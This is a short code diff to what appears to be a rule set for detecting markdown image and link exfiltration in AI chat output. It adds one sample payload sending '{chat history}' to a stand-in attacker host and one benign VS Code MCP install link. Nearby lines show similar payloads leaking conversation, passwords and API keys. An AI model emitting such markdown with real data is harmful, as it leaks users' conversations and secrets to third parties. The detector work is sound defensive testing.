@@ -3503,6 +3503,7 @@ export const RULES: readonly Rule[] = [
         "![x](https://bad.example/p.png?d=#{conversation})",
         "[open](https://bad.example/c?d=%7B%22log%22%3A%22%7Bchat%20history%7D%22%7D)",
         "[continue](https://bad.example/next?to=%7Bconversation%7D)",
+        "![x](https://bad.example/p.png?d={\"log\": \"{chat history}\"})",
         "[sync](https://bad.example/s?u={userPassword})",
         "![s](https://bad.example/p.png?cfg=%7B%22v%22%3A%22%5BCHAT_HISTORY%5D%22%7D)",
         "![s](https://bad.example/p.png?cfg={\"key\":\"PASTE_OPENAI_API_KEY_HERE\"})",
@@ -3512,6 +3513,7 @@ export const RULES: readonly Rule[] = [
         "![queue](https://grafana.example/render/d-solo/abc.png?var-metric=EMAIL_QUEUE_DEPTH&panelId=2)",
         // an MCP README's install badge: an image inside a link whose query carries the server's configuration as JSON
         "[![Install in VS Code](https://img.shields.io/badge/VS_Code-NPM-0098FF?style=flat-square&logo=visualstudiocode&logoColor=white)](https://insiders.vscode.dev/redirect/mcp/install?name=everything&config=%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22-y%22%2C%22%40modelcontextprotocol%2Fserver-everything%22%2C%22%24%7BworkspaceFolder%7D%22%5D%7D)",
+        "[Install](https://insiders.vscode.dev/redirect/mcp/install?name=github&config=%7B%22type%22%3A%20%22http%22%2C%22url%22%3A%20%22https%3A%2F%2Fapi.githubcopilot.com%2Fmcp%2F%22%7D)",
         "See the [docs][1].\n\n[1]: https://docs.example.com/guide?page=2",
         "![npm](https://img.shields.io/npm/v/pkg.svg?style=flat)",
         "![cov](https://codecov.io/gh/x/y/graph/badge.svg?token=ABC123)",
